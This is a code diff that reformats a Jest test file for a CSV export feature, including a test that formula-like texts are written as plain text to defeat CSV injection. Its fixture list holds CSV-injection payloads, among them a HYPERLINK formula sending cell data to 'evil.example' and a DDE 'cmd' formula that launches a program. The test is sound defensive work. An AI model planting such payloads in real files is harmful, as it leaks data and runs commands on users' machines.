@@ -27,7 +27,15 @@ describe('CSV export', () => {
     const vision = load('tests/fixtures/vision/vision.json');
     const rows = readCsv(nodesCsv(allInput(vision)));
     const header = Object.keys(rows[0] ?? {});
-    for (const c of ['dim_venue-type', 'dim_venue-type_label', 'dim_venue', 'dim_venue_label', 'dim_modality', 'dim_modality_label']) expect(header).toContain(c);
+    for (const c of [
+      'dim_venue-type',
+      'dim_venue-type_label',
+      'dim_venue',
+      'dim_venue_label',
+      'dim_modality',
+      'dim_modality_label',
+    ])
+      expect(header).toContain(c);
     // family and task have their own columns, and the bibliographic venue keeps its name
     expect(header).not.toContain('dim_family');
     expect(header).toContain('venue');
@@ -37,7 +45,9 @@ describe('CSV export', () => {
     expect(survey['dim_venue_label']).toBe('TPAMI');
     expect(survey['venue']).toBe('TPAMI');
     // the bundled survey has no further dimension
-    expect(Object.keys(readCsv(nodesCsv(allInput(load(SMALL))))[0] ?? {}).filter((c) => c.startsWith('dim_'))).toEqual([]);
+    expect(
+      Object.keys(readCsv(nodesCsv(allInput(load(SMALL))))[0] ?? {}).filter((c) => c.startsWith('dim_')),
+    ).toEqual([]);
   });
 
   it('writes RFC 4180 fields: quotes doubled, quoted only when needed, CRLF rows', () => {
@@ -150,7 +160,15 @@ describe('CSV export', () => {
 
   it('writes a hostile graph whose every formula-like text reads back as text, never a formula', () => {
     // texts a spreadsheet would run (https://owasp.org/www-community/attacks/CSV_Injection)
-    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '+1',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      "=cmd|' /C calc'!A0",
+    ];
     const loaded = load(SMALL);
     const graph = loaded.graph.copy();
     graph.nodes().forEach((key, i) => {
@@ -214,6 +232,10 @@ describe('CSV export', () => {
       'dataset',
       'inputs_hash',
     ]);
-    expect(rows.find((r) => r.id === '33')).toMatchObject({ label: 'Member 34', club: 'Officer', degree: '17' });
+    expect(rows.find((r) => r.id === '33')).toMatchObject({
+      label: 'Member 34',
+      club: 'Officer',
+      degree: '17',
+    });
   });
 });
